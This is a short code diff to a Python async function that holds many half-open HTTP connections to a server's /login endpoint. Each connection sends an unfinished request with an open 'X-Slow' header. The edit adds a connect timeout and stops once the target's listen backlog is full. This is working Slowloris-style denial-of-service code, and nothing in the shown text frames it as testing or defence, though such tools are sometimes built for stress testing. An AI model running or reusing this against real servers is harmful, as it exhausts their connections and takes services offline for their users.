@@ -79,11 +79,12 @@ async def half_open(url: str, count: int, source: str) -> list[asyncio.StreamWri
     held: list[asyncio.StreamWriter] = []
     for _ in range(count):
         try:
-            _, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
-            writer.write(f"GET /login HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())
-            held.append(writer)
-        except OSError:
-            break  # the kernel's backlog is full: enough connections are pending
+            async with asyncio.timeout(1):
+                _, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
+        except (OSError, TimeoutError):
+            break  # the listen backlog is full (the server no longer accepts): enough
+        writer.write(f"GET /login HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())
+        held.append(writer)
     return held
 
 
